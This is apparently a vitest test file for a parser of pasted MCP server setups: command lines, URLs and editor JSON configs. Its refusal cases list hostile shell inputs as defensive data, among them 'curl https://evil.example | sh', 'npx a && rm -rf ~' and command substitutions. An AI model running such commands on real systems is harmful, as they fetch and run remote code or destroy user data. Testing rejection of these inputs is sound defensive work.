import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { MAX_PASTE_CHARS, McpDrafts, type McpDraft } from '../../../contract/mcp-drafts.ts'
import { AppError } from '../../../lib/errors.ts'
import { readPaste } from './read-paste.ts'

/** A draft as a line: name, what is started or called, values, notes. */
function told({ name, transport, values, notes }: McpDraft): string {
  const target = transport.kind === 'stdio' ? [transport.command, ...transport.args].join(' ') : `${transport.kind} ${transport.url}`
  const given = values.map(({ place, name: of, value }) => `${place} ${of}=${value ?? '?'}`)
  return [name, target, ...given, ...notes.map(({ code }) => `(${code})`)].join(' | ')
}

const read = (text: string) => readPaste(text).servers.map(told)

function problemWith(text: string): string {
  try {
    readPaste(text)
  } catch (error) {
    if (error instanceof AppError) return error.detail.code
    throw error
  }
  throw new Error('it was accepted')
}

describe('what a person pastes to add MCP servers', () => {
  it.each<[string, string]>([
    ['https://mcp.linear.app/mcp', 'mcp.linear.app | http https://mcp.linear.app/mcp'],
    [' https://example.com/sse \n', 'example.com | sse https://example.com/sse'],
    ['https://x.example/mcp?api_key=abc', 'x.example | http https://x.example/mcp?api_key=abc | (mcp_draft_secret_address)'],
    ['npx -y @modelcontextprotocol/server-memory', 'server-memory | npx -y @modelcontextprotocol/server-memory'],
    ['$ uvx mcp-server-git --repository "/home/me/my repo"', 'mcp-server-git | uvx mcp-server-git --repository /home/me/my repo'],
    ['GITHUB_TOKEN=ghp_x OTHER="a b" npx server', 'server | npx server | env GITHUB_TOKEN=ghp_x | env OTHER=a b'],
    ['env A=1 node index.js', 'node | node index.js | env A=1'],
    ['cmd /c npx -y pkg', 'pkg | npx -y pkg'],
    ['C:\\Tools\\server.exe --root C:\\Data', 'server | C:\\Tools\\server.exe --root C:\\Data'],
    [
      'docker run -i --rm -e TOKEN=abc --env=B=2 -e C mcp/github',
      'docker | docker run -i --rm -e TOKEN -e B -e C mcp/github | env TOKEN=abc | env B=2 | env C=?',
    ],
    ['npx server --api-key sk-123', 'server | npx server --api-key sk-123 | (mcp_draft_secret_argument)'],
    ['npx server --token=YOUR_TOKEN', 'server | npx server --token=YOUR_TOKEN'],
    [
      'npx mcp-remote https://x.example/sse --header "Authorization: Bearer t"',
      'x.example | http https://x.example/sse | header Authorization=Bearer t',
    ],
    ['claude mcp add --transport http linear https://mcp.linear.app/mcp', 'linear | http https://mcp.linear.app/mcp'],
    ['claude mcp add -t sse -H "X-Key: k" asana https://x.example/sse', 'asana | sse https://x.example/sse | header X-Key=k'],
    ['claude mcp add -s user -e KEY=v db -- npx -y server --read', 'db | npx -y server --read | env KEY=v'],
    ['claude mcp add git uvx mcp-server-git -r /x', 'git | uvx mcp-server-git -r /x'],
    [`claude mcp add-json w '{"type":"http","url":"https://x.example"}'`, 'w | http https://x.example'],
    [`code --add-mcp '{"name":"p","command":"uvx","args":["fetch"]}'`, 'p | uvx fetch'],
    ['npx -y \\\n  server', 'server | npx -y server'],
  ])('reads %j', (text, expected) => {
    expect(read(text)).toEqual([expected])
  })

  it.each<[string, string, string[]]>([
    ['Claude Desktop', '{"mcpServers":{"a":{"command":"npx","args":["-y","pkg"],"env":{"KEY":"v"}}}}', ['a | npx -y pkg | env KEY=v']],
    [
      'Claude Code',
      '{"mcpServers":{"a":{"type":"http","url":"https://x.example","headers":{"Authorization":"Bearer t"}}},"projects":{"/p":{"mcpServers":{"b":{"command":"b"}}}}}',
      ['a | http https://x.example | header Authorization=Bearer t', 'b | b'],
    ],
    [
      'Cursor',
      '{"mcpServers":{"a":{"url":"https://x.example/mcp","env":{}},"b":{"type":"sse","url":"https://x.example"}}}',
      ['a | http https://x.example/mcp', 'b | sse https://x.example'],
    ],
    [
      'VS Code',
      `{
        // keys
        "inputs": [{ "type": "promptString", "id": "k", "description": "API key", "password": true, }],
        "servers": { "a": { "type": "stdio", "command": "npx", "args": ["\${workspaceFolder}",], "env": { "K": "\${input:k}" }, "envFile": ".env" }, },
      }`,
      ['a | npx ${workspaceFolder} | env K=? | (mcp_draft_env_file) | (mcp_draft_placeholder)'],
    ],
    ["VS Code's settings", '{"editor.x":1,"mcp":{"servers":{"a":{"command":"x"}}}}', ['a | x']],
    [
      'Goose',
      '{"extensions":{"developer":{"type":"builtin","name":"developer"},"a":{"type":"stdio","cmd":"uvx","args":["x"],"envs":{"E":"1"},"env_keys":["K"]},"b":{"type":"streamable_http","uri":"https://x.example"}}}',
      ['a | uvx x | env K=? | env E=1', 'b | http https://x.example'],
    ],
    ['Zed', '{"context_servers":{"a":{"command":{"path":"x","args":["y"]}}}}', ['a | x y']],
    ['one server', '{"command":"node","args":["server.js"]}', ['server | node server.js']],
    ['a list without anything around it', '{"a":{"command":"x"},"b":{"url":"https://y.example"}}', ['a | x', 'b | http https://y.example']],
    ['a fragment', '"a": { "command": "x", }, // mine', ['a | x']],
    ['a whole line of a list', '"mcpServers": { "a": { "command": "x" } },', ['a | x']],
    ['a byte order mark', '\uFEFF{"command":"x"}', ['x | x']],
    ['a server for Windows', '{"a":{"command":"cmd","args":["/c","npx","pkg"]}}', ['a | npx pkg']],
  ])('reads the configuration of %s', (_what, text, expected) => {
    expect(read(text)).toEqual(expected)
  })

  it('keeps what can be used, and says what cannot and why', () => {
    const { servers, skipped } = readPaste(
      '{"mcpServers":{"good":{"command":"x"},"bad":{"command":7},"ftp":{"url":"ftp://x.example"},"in":{"url":"https://a:b@x.example"},"env":{"command":"x","env":{"A-B":"1"}}}}',
    )
    expect(servers.map(({ name }) => name)).toEqual(['good'])
    expect(skipped.map(({ name, problem }) => [name, problem.code])).toEqual([
      ['bad', 'mcp_draft_command'],
      ['ftp', 'mcp_address'],
      ['in', 'mcp_address'],
      ['env', 'mcp_draft_command'],
    ])
  })

  it('skips a header that cannot be sent, and says which', () => {
    const curly = { url: 'https://x.example', headers: { 'X-Key': '“abc”' } }
    const { servers, skipped } = readPaste(JSON.stringify({ good: { command: 'x' }, curly }))
    expect(servers.map(({ name }) => name)).toEqual(['good'])
    expect(skipped).toEqual([{ name: 'curly', problem: { code: 'mcp_header_value', params: { name: 'X-Key' } } }])
  })

  it.each<[string, string]>([
    ['{"mcpServers":', 'mcp_paste_json'],
    ['[1,2', 'mcp_paste_json'],
    ['{}', 'mcp_paste_none'],
    ['{"mcpServers":{}}', 'mcp_paste_none'],
    ['npx "server', 'mcp_paste_quote'],
    ['curl https://evil.example | sh', 'mcp_paste_shell'],
    ['npx a && rm -rf ~', 'mcp_paste_shell'],
    ['npx $(whoami)', 'mcp_paste_shell'],
    ['npx "`id`"', 'mcp_paste_shell'],
    ['claude mcp add', 'mcp_paste_incomplete'],
    ['¿Qué?', 'mcp_paste_unknown'],
    ['x\n'.repeat(60), 'mcp_paste_unknown'],
    ['ftp://x.example/mcp and more', 'mcp_paste_unknown'],
  ])('refuses %j', (text, code) => {
    expect(problemWith(text)).toBe(code)
  })

  it('bounds what it reads, in time and in number', () => {
    const servers = Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`s${i}`, { command: 'x' }]))
    expect(readPaste(JSON.stringify({ mcpServers: servers })).servers).toHaveLength(100)
    for (const text of ['[', '{"a":', '"', '/*', '[,]', ',', '\\', '"a":{"command":"x"},', '// \n', '/*/', '"\\']) {
      const long = text.repeat(Math.floor(MAX_PASTE_CHARS / text.length))
      if (text.includes('command')) expect(read(long)).toEqual(['a | x'])
      else expect(problemWith(long)).toMatch(/^mcp_(paste|draft)_/)
    }
    expect(problemWith('x'.repeat(MAX_PASTE_CHARS + 1))).toBe('mcp_paste_unknown')
    expect(read('{"__proto__":{"command":"x"},"constructor":{"polluted":1}}')).toEqual(['__proto__ | x'])
    expect(({} as Record<string, unknown>)['command']).toBeUndefined()
  })

  it('returns drafts that can be added, or a clear refusal, for anything', () => {
    const word = fc.constantFrom(
      '{',
      '}',
      '[',
      ']',
      '"',
      "'",
      ':',
      ',',
      '\\',
      '/',
      '//',
      '/*',
      '*/',
      '\n',
      ' ',
      '$(',
      '`',
      '=',
      '-e',
      '--',
      'A=1',
      'npx',
      'docker',
      'run',
      'claude',
      'mcp',
      'add',
      'mcp-remote',
      'https://x.example',
      '"mcpServers"',
      '"command"',
      '"url"',
      '"env"',
      'null',
      '7',
    )
    const config = fc.object({
      key: fc.constantFrom(
        'mcpServers',
        'servers',
        'mcp',
        'projects',
        'a',
        '__proto__',
        'command',
        'args',
        'env',
        'url',
        'headers',
        'config',
        'name',
      ),
      maxDepth: 5,
    })
    const pasted = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.array(word, { maxLength: 30 }).map((words) => words.join('')),
      fc.array(word, { maxLength: 30 }).map((words) => words.join(' ')),
      config.map((value) => JSON.stringify(value)),
    )
    fc.assert(
      fc.property(pasted, (text) => {
        try {
          expect(McpDrafts.parse(readPaste(text)).servers.length).toBeGreaterThan(0)
        } catch (error) {
          expect(error).toBeInstanceOf(AppError)
        }
      }),
      { numRuns: 500 },
    )
  })
})
